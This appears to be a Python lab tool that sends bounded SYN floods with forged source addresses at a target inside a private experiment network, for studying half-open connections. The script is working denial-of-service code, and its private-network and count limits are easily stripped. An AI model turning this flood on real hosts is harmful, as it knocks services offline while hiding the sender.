"""Send TCP SYNs with forged sources to one port, for experiments on half-open connections.

    python3 syn_flood.py --to 10.0.0.2 --port 80 --network 10.0.0.0/24 --rate 100 --count 500
    --until 10

It is bounded in number and in time, and refuses a target outside ``--network``: the experiment's
own addresses. Sources, source ports and sequence numbers come from a generator with a fixed
``--seed``. Needs CAP_NET_RAW.
"""

import argparse
import ipaddress
import json
import random
import socket
import struct
import sys
import time

LARGEST_COUNT = 100_000
SYN = 0x02


def log(event: str, **facts: object) -> None:
    """Print one event as a line of JSON, in one piece.

    ``time_ns`` is nanoseconds of the system's clock.
    """
    sys.stdout.write(json.dumps({"time_ns": time.time_ns(), "event": event, **facts}) + "\n")
    sys.stdout.flush()


def checksum(data: bytes) -> int:
    """Return the internet checksum of ``data`` (RFC 1071)."""
    if len(data) % 2:
        data += b"\0"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn_packet(source: bytes, target: bytes, source_port: int, port: int, sequence: int) -> bytes:
    """Return an IPv4 or IPv6 packet that holds one SYN with an MSS option; addresses are packed."""
    is_six = len(source) == 16
    mss_option = b"\x02\x04" + struct.pack("!H", 1440 if is_six else 1460)
    offset = (20 + len(mss_option)) // 4 << 4
    segment = (
        struct.pack("!HHIIBBHHH", source_port, port, sequence, 0, offset, SYN, 64240, 0, 0)
        + mss_option
    )
    # RFC 8200 section 8.1; the same sum as IPv4's
    pseudo = source + target + struct.pack("!IHBB", len(segment), 0, 0, socket.IPPROTO_TCP)
    segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
    if is_six:
        return (
            struct.pack("!IHBB", 6 << 28, len(segment), socket.IPPROTO_TCP, 64)
            + source
            + target
            + segment
        )
    header = (
        struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), 0, 0, 64, socket.IPPROTO_TCP, 0)
        + source
        + target
    )
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + segment


def flood(arguments: argparse.Namespace, raw: socket.socket, draw: random.Random) -> int:
    """Send on a fixed grid until the count or the time is reached; return how many were sent."""
    target = ipaddress.ip_address(arguments.to)
    address = type(target)
    first, size = int(arguments.sources.network_address), arguments.sources.num_addresses
    start, sent = time.monotonic(), 0
    while sent < arguments.count:
        due = sent / arguments.rate
        now = time.monotonic() - start
        if due >= arguments.until or now >= arguments.until:
            break
        if due > now:
            time.sleep(due - now)
        source = address(first + draw.randrange(size)).packed
        packet = syn_packet(
            source, target.packed, draw.randrange(1024, 65536), arguments.port, draw.getrandbits(32)
        )
        raw.sendto(packet, (arguments.to, 0))  # over IPv6 a port other than 0 would be refused
        sent += 1
    return sent


def parse_arguments() -> argparse.Namespace:
    """Read the command line and refuse what is out of bounds."""
    parser = argparse.ArgumentParser(
        description="Send SYNs with forged sources inside an experiment's own network."
    )
    parser.add_argument("--to", required=True, help="address of the target")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument(
        "--network",
        action="append",
        required=True,
        type=ipaddress.ip_network,
        help="a network of the experiment; the target must be in one (may be repeated)",
    )
    parser.add_argument(
        "--sources", default="198.18.0.0/16", type=ipaddress.ip_network, help="forged sources"
    )
    parser.add_argument("--rate", type=float, default=100.0, help="SYNs per second")
    parser.add_argument(
        "--count", type=int, default=1000, help=f"SYNs in all, at most {LARGEST_COUNT}"
    )
    parser.add_argument(
        "--until", type=float, default=60.0, help="seconds after which it stops in any case"
    )
    parser.add_argument("--seed", type=int, default=0)
    arguments = parser.parse_args()
    if not 0 < arguments.count <= LARGEST_COUNT or arguments.rate <= 0 or arguments.until <= 0:
        parser.error(f"count must be 1 to {LARGEST_COUNT}, rate and until above 0")
    target = ipaddress.ip_address(arguments.to)
    if arguments.sources.version != target.version:
        parser.error(
            f"the forged sources {arguments.sources} are not of the target's version of IP"
        )
    if not any(network.is_private and target in network for network in arguments.network):
        parser.error(f"{target} is not an address of the experiment's own network")
    return arguments


def main() -> None:
    """Flood within the bounds and say how much was sent."""
    arguments = parse_arguments()
    raw = socket.socket(
        socket.AF_INET6 if ":" in arguments.to else socket.AF_INET,
        socket.SOCK_RAW,
        socket.IPPROTO_RAW,
    )
    log("start", to=arguments.to, port=arguments.port, rate=arguments.rate, count=arguments.count)
    sent = flood(arguments, raw, random.Random(arguments.seed))
    log("end", sent=sent)
    print(f"sent {sent} SYNs", flush=True)


if __name__ == "__main__":
    main()
